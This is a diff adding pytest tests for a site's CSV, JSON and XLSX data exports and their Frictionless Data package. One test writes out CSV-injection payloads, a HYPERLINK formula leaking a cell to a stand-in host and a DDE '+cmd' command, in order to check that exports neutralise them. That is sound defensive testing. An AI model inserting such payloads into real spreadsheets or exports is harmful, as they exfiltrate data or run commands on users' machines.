@@ -2,11 +2,14 @@
 sources, one file per language, described by a Frictionless Data package that validates."""
 
 import csv
+import datetime
 import io
 import json
+from decimal import Decimal
 
 import frictionless
 import pytest
+from openpyxl import load_workbook
 
 from tests.factories import FigureFactory, MilestoneFactory, OrganisationFactory, SignatoryFactory
 
@@ -95,7 +98,7 @@ def test_wrong_filters_download_nothing_and_say_why(client, places):
     assert response.status_code == 400
     assert "year_from: Enter a whole number." in response.content.decode()
     assert client.get("/en/data/nothing.csv").status_code == 404
-    assert client.get("/en/data/agreements.xlsx").status_code == 404
+    assert client.get("/en/data/agreements.xml").status_code == 404
 
 
 @pytest.mark.parametrize("language", ["it", "en"])
@@ -105,11 +108,12 @@ def test_the_datapackage_describes_every_file_and_the_files_validate(client, pla
     OrganisationFactory(slug="bologna-fair")
     package = json.loads(client.get(f"/{language}/data/datapackage.json").content)
     assert package["language"] == language and package["licenses"][0]["path"].startswith("https://creativecommons")
+    assert package["licenses"][0]["name"] == "CC-BY-4.0"  # an Open Definition identifier, as the standard asks
     names = {resource["name"] for resource in package["resources"]}
     assert names == {
         f"{name}-{fmt}"
-        for name in ["agreements", "partners", "milestones", "organisations", "figures"]
-        for fmt in ["csv", "json"]
+        for name in ["agreements", "partners", "milestones", "organisations", "countries", "figures"]
+        for fmt in ["csv", "json", "xlsx"]
     }
     for resource in package["resources"]:  # the files as served, next to the descriptor
         url = resource["path"].removeprefix("http://testserver")
@@ -120,3 +124,101 @@ def test_the_datapackage_describes_every_file_and_the_files_validate(client, pla
     descriptor.write_text(json.dumps(package))
     report = frictionless.validate(str(descriptor))
     assert report.valid, report.flatten(["resourcePath", "rowNumber", "fieldName", "type", "note"])
+    # Every file's rows were read and checked, the JSON and XLSX ones too, not only their files.
+    rows_read = {task.name: task.stats["rows"] for task in report.tasks}
+    assert all(rows_read[f"agreements-{fmt}"] == 2 for fmt in ("csv", "json", "xlsx")), rows_read
+    assert all(rows_read[f"figures-{fmt}"] == 1 for fmt in ("csv", "json", "xlsx")), rows_read
+
+
+def test_a_broken_reference_between_the_lists_is_a_foreign_key_error(client, places, tmp_path):
+    """The package's foreign keys are checked: a partner whose country the countries file lacks fails."""
+    package = json.loads(client.get("/en/data/datapackage.json").content)
+    package["resources"] = [r for r in package["resources"] if r["name"] in ("partners-csv", "countries-csv")]
+    for resource in package["resources"]:
+        body = client.get(resource["path"].removeprefix("http://testserver")).content
+        if resource["name"] == "countries-csv":
+            body = b"\r\n".join(line for line in body.split(b"\r\n") if not line.startswith(b"china,"))
+        (tmp_path / f"{resource['name']}.csv").write_bytes(body)
+        resource["path"] = f"{resource['name']}.csv"
+    (tmp_path / "datapackage.json").write_text(json.dumps(package))
+    report = frictionless.validate(str(tmp_path / "datapackage.json"))
+    assert not report.valid
+    assert ["foreign-key"] in report.flatten(["type"])
+
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://x/?leak="&A1,"clicca")',
+    "command": "+cmd|' /C calc'!A0",
+    "at": "@SUM(1)",
+    "minus": "-1+1",
+}
+
+
+def test_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_typed_as_text_in_the_xlsx(client, places):
+    """OWASP's CSV-injection rule: a text cell beginning with = + - @ (or a tab or carriage return)
+    starts with an apostrophe; numbers, -3.5 included, stay numbers."""
+    places.chongqing_agreement.title_en = HOSTILE["formula"]
+    places.chongqing_agreement.summary_en = HOSTILE["command"]
+    places.chongqing_agreement.save()
+    places.chongqing.name_en = HOSTILE["at"]
+    places.chongqing.latitude, places.chongqing.longitude = Decimal("-3.5"), Decimal("106.55")
+    places.chongqing.save()
+    places.nagoya.name_en = HOSTILE["minus"]
+    places.nagoya.save()
+    agreement = {row["id"]: row for row in rows(client, "/en/data/agreements.csv")}["agreement-with-chongqing"]
+    assert agreement["title"] == "'" + HOSTILE["formula"] and agreement["summary"] == "'" + HOSTILE["command"]
+    partners = {row["id"]: row for row in rows(client, "/en/data/partners.csv")}
+    assert partners["chongqing"]["name"] == "'" + HOSTILE["at"] and partners["nagoya"]["name"] == "'" + HOSTILE["minus"]
+    assert partners["chongqing"]["latitude"] == "-3.5"
+    workbook = load_workbook(io.BytesIO(client.get("/en/data/partners.xlsx").content))
+    sheet = workbook.active
+    header = [cell.value for cell in sheet[1]]
+    cells = {row[header.index("id")].value: row for row in sheet.iter_rows(min_row=2)}
+    name, latitude = cells["chongqing"][header.index("name")], cells["chongqing"][header.index("latitude")]
+    assert (name.value, name.data_type) == (HOSTILE["at"], "s")  # shown as written, never run
+    assert (latitude.value, latitude.data_type) == (-3.5, "n")
+    as_json = {row["id"]: row for row in json.loads(client.get("/en/data/partners.json").content)}
+    assert as_json["chongqing"]["name"] == HOSTILE["at"]  # data for programs, unchanged
+
+
+def test_the_xlsx_has_typed_cells_a_frozen_header_and_every_column_of_the_csv(client, places):
+    places.nagoya_agreement.entered_into_force_on = datetime.date(2016, 4, 1)
+    places.nagoya_agreement.save()
+    workbook = load_workbook(io.BytesIO(client.get("/it/data/agreements.xlsx").content))
+    sheet = workbook.active
+    assert sheet.freeze_panes == "A2"
+    header = [cell.value for cell in sheet[1]]
+    assert header == list(rows(client, "/it/data/agreements.csv")[0])
+    row = {header[index]: cell for index, cell in enumerate(next(sheet.iter_rows(min_row=2, max_row=3)))}
+    nagoya = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == "agreement-with-nagoya")
+    entry = nagoya[header.index("entered_into_force")]
+    assert entry.is_date and entry.value.date() == datetime.date(2016, 4, 1)
+    assert row["source"].data_type == "s"
+
+
+def test_every_download_is_a_file_named_for_its_list_filters_and_language(client, places):
+    response = client.get("/it/data/agreements.csv?country=china&year_from=1980")
+    assert response["Content-Disposition"] == 'attachment; filename="agreements-china-1980-it.csv"'
+    assert client.get("/en/data/figures.xlsx")["Content-Disposition"] == 'attachment; filename="figures-en.xlsx"'
+    assert client.get("/en/data/partners.json?kind=city")["Content-Disposition"] == (
+        'attachment; filename="partners-city-en.json"'
+    )
+
+
+def test_the_csv_is_rfc_4180_utf_8_without_a_byte_order_mark(client, places):
+    body = client.get("/en/data/agreements.csv").content
+    assert not body.startswith(b"\xef\xbb\xbf")
+    header = body.split(b"\r\n", 1)[0]  # lines end in CRLF, as RFC 4180 has them
+    assert header.startswith(b"id,url,") and b"\n" not in header
+
+
+def test_a_control_character_in_a_stored_text_never_reaches_a_download(client, places):
+    places.chongqing_agreement.title_en = "Agreement\x0bwith\x01Chongqing"
+    places.chongqing_agreement.save()
+    for fmt in ("csv", "json"):
+        response = client.get(f"/en/data/agreements.{fmt}")
+        assert response.status_code == 200, fmt
+        assert b"\x0b" not in response.content and b"\x01" not in response.content, fmt
+    workbook = load_workbook(io.BytesIO(client.get("/en/data/agreements.xlsx").content))  # openpyxl refuses them
+    texts = [cell.value for row in workbook.active.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert "Agreement\nwithChongqing" in texts  # the vertical tab a line break, the other gone
